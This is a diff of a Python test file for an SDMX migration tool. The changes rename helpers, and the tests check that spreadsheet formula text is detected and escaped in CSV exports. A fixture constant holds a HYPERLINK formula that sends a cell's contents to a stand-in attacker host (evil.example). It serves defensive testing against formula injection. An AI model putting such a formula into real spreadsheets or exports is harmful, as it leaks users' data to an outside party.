@@ -18,11 +18,11 @@ from stored_findings import listed as findings_in
 from sdmxmig.catalogue.agencies import read_agency
 from sdmxmig.cli import run
 from sdmxmig.primitives.errors import DeclarationError
-from sdmxmig.primitives.text import RUNS, fill_message, is_formula, shield_formula, unshield_formula
+from sdmxmig.primitives.text import RUNNING_FORMULA, fill_message, is_formula, shield_formula, unshield_formula
 from sdmxmig.sdmx.declarations import Declared
 from sdmxmig.sdmx.model.artefacts import Text
 from sdmxmig.sdmx.model.findings import Finding
-from sdmxmig.sdmx.words import read_words, to_translate
+from sdmxmig.sdmx.words import list_untranslated, read_words
 
 LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Total")'
 HOSTILE = [
@@ -73,14 +73,14 @@ HARMLESS = [
 @pytest.mark.parametrize("text", HOSTILE)
 def test_formula_text_is_detected_and_escaped(text: str) -> None:
     assert is_formula(text)
-    assert pl.Series([text]).str.contains(RUNS).item()
+    assert pl.Series([text]).str.contains(RUNNING_FORMULA).item()
     assert shield_formula(text).lstrip().startswith("'")
 
 
 @pytest.mark.parametrize("text", HARMLESS)
 def test_text_resembling_a_formula_is_not_reported(text: str) -> None:
     assert not is_formula(text)
-    assert not pl.Series([text]).str.contains(RUNS).item()
+    assert not pl.Series([text]).str.contains(RUNNING_FORMULA).item()
 
 
 @pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS, "''-x", "' =x", "'", "''", "'tis", "'n'"])
@@ -91,7 +91,7 @@ def test_a_shield_is_taken_away_again(text: str) -> None:
 
 def test_the_list_of_what_is_not_translated_is_shielded_and_read_back() -> None:
     keys = [*(one for one in (*HOSTILE, *HARMLESS) if one), "{n} ships\0other", "=A1\0few"]
-    written = to_translate(keys, "fr")
+    written = list_untranslated(keys, "fr")
     cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]
     assert not [cell for cell in cells if is_formula(cell)]
     filled_in = io.StringIO(newline="")
